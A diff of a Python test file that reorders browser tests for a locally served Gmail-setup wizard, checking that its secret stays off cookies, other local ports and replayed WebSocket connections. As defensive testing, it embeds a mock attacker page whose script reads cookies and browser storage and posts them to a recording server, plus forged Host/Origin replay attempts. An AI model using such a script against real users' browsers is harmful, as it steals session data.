@@ -252,167 +252,6 @@ def assert_refused_without_the_secret(browser, port: int, refusal: str) -> None:
     assert stranger.evaluate("sessionStorage.length") == 0
 
 
-class RecordingServer:
-    """Another web server on this computer, as an attacker would run one: it keeps every byte a browser sends it.
-
-    Its page also reports what it can read from inside the browser (cookies, storage) and
-    asks the wizard's server for its page with credentials, as a hostile page would.
-    """
-
-    def __init__(self, wizard_port: int) -> None:
-        import http.server
-        import threading
-
-        self.port = free_port()
-        self.received: list[bytes] = []
-        self.reports = 0
-        self.reported = threading.Condition()
-        recorder = self
-        page = (
-            "<!doctype html><script>"
-            f"fetch('http://127.0.0.1:{wizard_port}/', {{mode: 'no-cors', credentials: 'include'}}).finally(() =>"
-            " fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie,"
-            " session: Object.entries(sessionStorage), local: Object.entries(localStorage),"
-            " address: location.href, referrer: document.referrer})}));"
-            "</script>"
-        ).encode()
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers))
-                self.send_response(200)
-                self.send_header("Content-Type", "text/html")
-                self.end_headers()
-                self.wfile.write(page)
-
-            def do_POST(self) -> None:
-                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
-                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
-                with recorder.reported:
-                    recorder.reports += 1
-                    recorder.reported.notify_all()
-                self.send_response(204)
-                self.end_headers()
-
-            def log_message(self, *args) -> None:
-                pass
-
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-
-    def wait_for_reports(self, count: int, seconds: float = 30) -> None:
-        with self.reported:
-            assert self.reported.wait_for(lambda: self.reports >= count, seconds), "the other page never reported"
-
-    def close(self) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-
-
-def test_no_other_local_page_receives_the_secret(browser, served) -> None:
-    """Browsers send a host's cookies to all its ports; the secret is in no cookie, and no other port gets it."""
-    import aiohttp
-
-    port, address, _ = served
-    secret = address.partition("#")[2]
-    recorder = RecordingServer(port)
-    try:
-        context = browser.new_context()
-        wizard = context.new_page()
-        screen = TerminalStream(wizard)
-        wizard.goto(address)
-        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
-        assert wizard.url == f"http://127.0.0.1:{port}/"
-        # The user's browser, the wizard still open, visits other pages on this computer.
-        for host in ("127.0.0.1", "localhost"):
-            other = context.new_page()
-            before = recorder.reports
-            other.goto(f"http://{host}:{recorder.port}/attack.html")
-            recorder.wait_for_reports(before + 1)
-            other.close()
-        # A page the wizard opens cannot steer the wizard's tab (no window.opener).
-        with context.expect_page() as opened:
-            wizard.evaluate(f"window.open('http://127.0.0.1:{recorder.port}/opened', '_blank')")
-        assert opened.value.evaluate("window.opener === null")
-        opened.value.close()
-        # A crafted query is dropped before textual.js reads it: "?ping=" once left the page stuck.
-        screen.clear()
-        wizard.goto(f"http://127.0.0.1:{port}/?ping=http://127.0.0.1:{recorder.port}/pinged&delay=1")
-        wizard.wait_for_url(f"http://127.0.0.1:{port}/")
-        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
-        # Following a link from the wizard's own tab is no different.
-        wizard.evaluate(f"location.href = 'http://127.0.0.1:{recorder.port}/from-the-wizard-tab'")
-        wizard.wait_for_url(f"http://127.0.0.1:{recorder.port}/from-the-wizard-tab")
-        wizard.go_back()
-        wizard.wait_for_url(f"http://127.0.0.1:{port}/")
-        screen.clear()
-        wizard.reload()  # the tab still holds its secret: the wizard comes back
-        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
-        assert_refused_without_the_secret(browser, port, "ターミナルに表示されたアドレス")
-        context.close()
-    finally:
-        recorder.close()
-    received = b"\n".join(recorder.received)
-    assert len(recorder.received) >= 5 and recorder.reports >= 2
-    assert secret.encode() not in received
-    assert b"cookie:" not in received.lower()  # nothing at all: the wizard sets no cookie
-
-    async def replay() -> list[int]:
-        """Everything the other server saw, presented as the secret, from a forged Host and Origin."""
-        candidates = {"", *re.findall(r"[\w-]{16,}", received.decode("utf-8", "replace"))}
-        statuses = []
-        async with aiohttp.ClientSession() as session:
-            for candidate in candidates:
-                try:
-                    async with session.ws_connect(
-                        f"ws://127.0.0.1:{port}/ws/{candidate}", origin=f"http://127.0.0.1:{port}",
-                        headers={"Host": f"127.0.0.1:{port}"},
-                    ):
-                        statuses.append(101)
-                except aiohttp.WSServerHandshakeError as refused:
-                    statuses.append(refused.status)
-        return statuses
-
-    with playwright_paused():
-        statuses = asyncio.run(replay())
-    assert statuses and set(statuses) == {403}
-
-
-def test_serve_listens_on_loopback_only(served) -> None:
-    port, _, _ = served
-    # /proc/net/tcp lists listening sockets as hex "address:port"; 0100007F is 127.0.0.1.
-    listening = [
-        line.split()[1] for line in Path("/proc/net/tcp").read_text().splitlines()[1:]
-        if line.split()[1].endswith(f":{port:04X}") and line.split()[3] == "0A"
-    ]
-    assert listening == [f"0100007F:{port:04X}"]
-
-
-@pytest.mark.parametrize(("host", "bound", "warned"), [(None, "127.0.0.1", False), ("localhost", "localhost", False), ("0.0.0.0", "0.0.0.0", True), ("192.0.2.10", "192.0.2.10", True)])
-def test_only_an_explicit_host_leaves_loopback(monkeypatch, capsys, host, bound, warned) -> None:
-    started = {}
-
-    class FakeServer:
-        def serve(self) -> None:
-            pass
-
-    def build(command: str, guard, host: str, port: int, title: str, page=None, on_listening=None) -> FakeServer:
-        started.update(command=command, host=host, port=port)
-        return FakeServer()
-
-    monkeypatch.setattr(serve_module, "build_server", build)
-    assert serve_module.serve(Texts("en"), lang="en", port=8123, host=host, practice=True, open_browser=False) == 0
-    assert started["host"] == bound and started["port"] == 8123
-    assert started["command"].endswith("-m wizard --lang en --practice")
-    output = capsys.readouterr()
-    assert ("Other computers on the network" in output.err) == warned
-    assert "http://" in output.out
-
-
-def test_without_a_language_the_served_wizard_chooses_as_usual() -> None:
-    assert serve_module.wizard_command(None, practice=False).endswith("-m wizard")
-
-
 class RenderedScreen(TerminalStream):
     """What the page's terminal shows, cell by cell: the bytes it was sent, replayed at the size it
     told the wizard (pyte measures characters as xterm.js's Unicode 11 widths do).
@@ -627,26 +466,44 @@ class PracticeRun:
         assert self.screen.sockets == sockets + 1
 
 
-@pytest.mark.parametrize(("width", "height", "lang"), [(390, 844, "en"), (1280, 800, "en")])
-def test_labels_keys_and_the_end_page_at_phone_and_desktop_sizes(browser, tmp_path: Path, lang, width, height) -> None:
-    """The whole practice run at a phone's and a laptop's size: no button label or footer key cut,
-    nothing touching the window's edge, and at the end our own page, in the wizard's language.
+def assert_the_qr_code_opens_and_closes(page, screen: RenderedScreen) -> None:
+    """In browser mode the QR code is the same blocks, drawn in the page's terminal line by line."""
+    page.keyboard.press("q")
+    screen.wait_for("スマートフォンで開く")
+    for line in qr_block_lines("https://myaccount.google.com/")[QUIET_ZONE // 2 : -(QUIET_ZONE // 2)]:
+        screen.wait_for(line)
+    # q closes it, as Escape does.
+    page.keyboard.press("q")
+    screen.wait_until_drawn()
+    screen.clear()
+    page.keyboard.press("q")  # closed: q opens it again
+    screen.wait_for("スマートフォンで開く")
+    page.keyboard.press("q")
+    screen.wait_until_drawn()
 
-    In Japanese the same run is walked by test_practice_flow_in_a_real_browser (a laptop's size)
-    and test_the_end_page_follows_the_wizards_language... (a phone's), which add their checks to it."""
-    with serving(tmp_path, lang) as (_, address, _, _):
-        page = browser.new_page(viewport={"width": width, "height": height})
-        run = PracticeRun(page, RenderedScreen(page), lang, width)
-        page.goto(address)
-        run.welcome(lambda: page.focus(".xterm-helper-textarea"))
-        run.to_step_1()
-        run.to_the_password_step()
-        run.password_to_the_last_step()
-        run.send()
-        run.confirmations_to_the_end_page()
-        if width == 390:
-            run.restart()
-        page.context.close()
+
+def assert_the_card_is_a_download(context, page, screen: RenderedScreen, downloads: list) -> None:
+    """In browser mode Save is a download (Textual's deliver_text through textual-serve): Chromium
+    receives the file, and the screen says the browser downloaded it. The app password was typed
+    on the way: the card still leaves it out."""
+    screen.wait_for("s カードを保存")
+    with context.expect_page(timeout=30_000) as tab:
+        page.keyboard.press("s")
+        screen.wait_for("ブラウザーでダウンロードしました")
+    if not downloads:  # recorded as soon as the tab had it
+        tab.value.wait_for_event("download", timeout=30_000)
+    assert len(downloads) == 1, "Chromium never saw a download"
+    download = downloads[0]
+    assert download.suggested_filename == "ecrea-input-card.txt"
+    card = Path(download.path()).read_text(encoding="utf-8")
+    assert card.startswith("Ecrea の「メール設定 - 更新」に入力する値")
+    assert any(line.startswith("送信元メールアドレス") and line.endswith("ecrea.test@gmail.com") for line in card.splitlines())
+    assert "ecreapracticekey" not in card.replace(" ", "")
+    tab.value.close()
+
+
+# The tests in the order they start: each long walk followed by a quick test, as xdist hands a
+# worker two at a time (--maxschedchunk 2): two walks given together ran one after the other.
 
 
 def test_practice_flow_in_a_real_browser(browser, served) -> None:
@@ -713,40 +570,14 @@ def test_practice_flow_in_a_real_browser(browser, served) -> None:
     assert saved["setup_completed_at"]
 
 
-def assert_the_qr_code_opens_and_closes(page, screen: RenderedScreen) -> None:
-    """In browser mode the QR code is the same blocks, drawn in the page's terminal line by line."""
-    page.keyboard.press("q")
-    screen.wait_for("スマートフォンで開く")
-    for line in qr_block_lines("https://myaccount.google.com/")[QUIET_ZONE // 2 : -(QUIET_ZONE // 2)]:
-        screen.wait_for(line)
-    # q closes it, as Escape does.
-    page.keyboard.press("q")
-    screen.wait_until_drawn()
-    screen.clear()
-    page.keyboard.press("q")  # closed: q opens it again
-    screen.wait_for("スマートフォンで開く")
-    page.keyboard.press("q")
-    screen.wait_until_drawn()
-
-
-def assert_the_card_is_a_download(context, page, screen: RenderedScreen, downloads: list) -> None:
-    """In browser mode Save is a download (Textual's deliver_text through textual-serve): Chromium
-    receives the file, and the screen says the browser downloaded it. The app password was typed
-    on the way: the card still leaves it out."""
-    screen.wait_for("s カードを保存")
-    with context.expect_page(timeout=30_000) as tab:
-        page.keyboard.press("s")
-        screen.wait_for("ブラウザーでダウンロードしました")
-    if not downloads:  # recorded as soon as the tab had it
-        tab.value.wait_for_event("download", timeout=30_000)
-    assert len(downloads) == 1, "Chromium never saw a download"
-    download = downloads[0]
-    assert download.suggested_filename == "ecrea-input-card.txt"
-    card = Path(download.path()).read_text(encoding="utf-8")
-    assert card.startswith("Ecrea の「メール設定 - 更新」に入力する値")
-    assert any(line.startswith("送信元メールアドレス") and line.endswith("ecrea.test@gmail.com") for line in card.splitlines())
-    assert "ecreapracticekey" not in card.replace(" ", "")
-    tab.value.close()
+def test_serve_listens_on_loopback_only(served) -> None:
+    port, _, _ = served
+    # /proc/net/tcp lists listening sockets as hex "address:port"; 0100007F is 127.0.0.1.
+    listening = [
+        line.split()[1] for line in Path("/proc/net/tcp").read_text().splitlines()[1:]
+        if line.split()[1].endswith(f":{port:04X}") and line.split()[3] == "0A"
+    ]
+    assert listening == [f"0100007F:{port:04X}"]
 
 
 def test_the_end_page_follows_the_wizards_language_and_knows_when_the_server_stopped(browser, tmp_path: Path) -> None:
@@ -788,6 +619,179 @@ def test_the_end_page_follows_the_wizards_language_and_knows_when_the_server_sto
         assert not page.locator("#restart").is_visible()
         assert not page.locator("#server-running").is_visible()
         page.context.close()
+
+
+def test_without_a_language_the_served_wizard_chooses_as_usual() -> None:
+    assert serve_module.wizard_command(None, practice=False).endswith("-m wizard")
+
+
+@pytest.mark.parametrize(("width", "height", "lang"), [(390, 844, "en"), (1280, 800, "en")])
+def test_labels_keys_and_the_end_page_at_phone_and_desktop_sizes(browser, tmp_path: Path, lang, width, height) -> None:
+    """The whole practice run at a phone's and a laptop's size: no button label or footer key cut,
+    nothing touching the window's edge, and at the end our own page, in the wizard's language.
+
+    In Japanese the same run is walked by test_practice_flow_in_a_real_browser (a laptop's size)
+    and test_the_end_page_follows_the_wizards_language... (a phone's), which add their checks to it."""
+    with serving(tmp_path, lang) as (_, address, _, _):
+        page = browser.new_page(viewport={"width": width, "height": height})
+        run = PracticeRun(page, RenderedScreen(page), lang, width)
+        page.goto(address)
+        run.welcome(lambda: page.focus(".xterm-helper-textarea"))
+        run.to_step_1()
+        run.to_the_password_step()
+        run.password_to_the_last_step()
+        run.send()
+        run.confirmations_to_the_end_page()
+        if width == 390:
+            run.restart()
+        page.context.close()
+
+
+class RecordingServer:
+    """Another web server on this computer, as an attacker would run one: it keeps every byte a browser sends it.
+
+    Its page also reports what it can read from inside the browser (cookies, storage) and
+    asks the wizard's server for its page with credentials, as a hostile page would.
+    """
+
+    def __init__(self, wizard_port: int) -> None:
+        import http.server
+        import threading
+
+        self.port = free_port()
+        self.received: list[bytes] = []
+        self.reports = 0
+        self.reported = threading.Condition()
+        recorder = self
+        page = (
+            "<!doctype html><script>"
+            f"fetch('http://127.0.0.1:{wizard_port}/', {{mode: 'no-cors', credentials: 'include'}}).finally(() =>"
+            " fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie,"
+            " session: Object.entries(sessionStorage), local: Object.entries(localStorage),"
+            " address: location.href, referrer: document.referrer})}));"
+            "</script>"
+        ).encode()
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers))
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
+                recorder.received.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
+                with recorder.reported:
+                    recorder.reports += 1
+                    recorder.reported.notify_all()
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def wait_for_reports(self, count: int, seconds: float = 30) -> None:
+        with self.reported:
+            assert self.reported.wait_for(lambda: self.reports >= count, seconds), "the other page never reported"
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_no_other_local_page_receives_the_secret(browser, served) -> None:
+    """Browsers send a host's cookies to all its ports; the secret is in no cookie, and no other port gets it."""
+    import aiohttp
+
+    port, address, _ = served
+    secret = address.partition("#")[2]
+    recorder = RecordingServer(port)
+    try:
+        context = browser.new_context()
+        wizard = context.new_page()
+        screen = TerminalStream(wizard)
+        wizard.goto(address)
+        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
+        assert wizard.url == f"http://127.0.0.1:{port}/"
+        # The user's browser, the wizard still open, visits other pages on this computer.
+        for host in ("127.0.0.1", "localhost"):
+            other = context.new_page()
+            before = recorder.reports
+            other.goto(f"http://{host}:{recorder.port}/attack.html")
+            recorder.wait_for_reports(before + 1)
+            other.close()
+        # A page the wizard opens cannot steer the wizard's tab (no window.opener).
+        with context.expect_page() as opened:
+            wizard.evaluate(f"window.open('http://127.0.0.1:{recorder.port}/opened', '_blank')")
+        assert opened.value.evaluate("window.opener === null")
+        opened.value.close()
+        # A crafted query is dropped before textual.js reads it: "?ping=" once left the page stuck.
+        screen.clear()
+        wizard.goto(f"http://127.0.0.1:{port}/?ping=http://127.0.0.1:{recorder.port}/pinged&delay=1")
+        wizard.wait_for_url(f"http://127.0.0.1:{port}/")
+        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
+        # Following a link from the wizard's own tab is no different.
+        wizard.evaluate(f"location.href = 'http://127.0.0.1:{recorder.port}/from-the-wizard-tab'")
+        wizard.wait_for_url(f"http://127.0.0.1:{recorder.port}/from-the-wizard-tab")
+        wizard.go_back()
+        wizard.wait_for_url(f"http://127.0.0.1:{port}/")
+        screen.clear()
+        wizard.reload()  # the tab still holds its secret: the wizard comes back
+        screen.wait_for("Ecrea から Gmail でメールを送れるようにします")
+        assert_refused_without_the_secret(browser, port, "ターミナルに表示されたアドレス")
+        context.close()
+    finally:
+        recorder.close()
+    received = b"\n".join(recorder.received)
+    assert len(recorder.received) >= 5 and recorder.reports >= 2
+    assert secret.encode() not in received
+    assert b"cookie:" not in received.lower()  # nothing at all: the wizard sets no cookie
+
+    async def replay() -> list[int]:
+        """Everything the other server saw, presented as the secret, from a forged Host and Origin."""
+        candidates = {"", *re.findall(r"[\w-]{16,}", received.decode("utf-8", "replace"))}
+        statuses = []
+        async with aiohttp.ClientSession() as session:
+            for candidate in candidates:
+                try:
+                    async with session.ws_connect(
+                        f"ws://127.0.0.1:{port}/ws/{candidate}", origin=f"http://127.0.0.1:{port}",
+                        headers={"Host": f"127.0.0.1:{port}"},
+                    ):
+                        statuses.append(101)
+                except aiohttp.WSServerHandshakeError as refused:
+                    statuses.append(refused.status)
+        return statuses
+
+    with playwright_paused():
+        statuses = asyncio.run(replay())
+    assert statuses and set(statuses) == {403}
+
+
+@pytest.mark.parametrize(("host", "bound", "warned"), [(None, "127.0.0.1", False), ("localhost", "localhost", False), ("0.0.0.0", "0.0.0.0", True), ("192.0.2.10", "192.0.2.10", True)])
+def test_only_an_explicit_host_leaves_loopback(monkeypatch, capsys, host, bound, warned) -> None:
+    started = {}
+
+    class FakeServer:
+        def serve(self) -> None:
+            pass
+
+    def build(command: str, guard, host: str, port: int, title: str, page=None, on_listening=None) -> FakeServer:
+        started.update(command=command, host=host, port=port)
+        return FakeServer()
+
+    monkeypatch.setattr(serve_module, "build_server", build)
+    assert serve_module.serve(Texts("en"), lang="en", port=8123, host=host, practice=True, open_browser=False) == 0
+    assert started["host"] == bound and started["port"] == 8123
+    assert started["command"].endswith("-m wizard --lang en --practice")
+    output = capsys.readouterr()
+    assert ("Other computers on the network" in output.err) == warned
+    assert "http://" in output.out
 
 
 def test_without_a_browser_the_terminal_names_the_file_to_open(monkeypatch, capsys, tmp_path: Path) -> None:
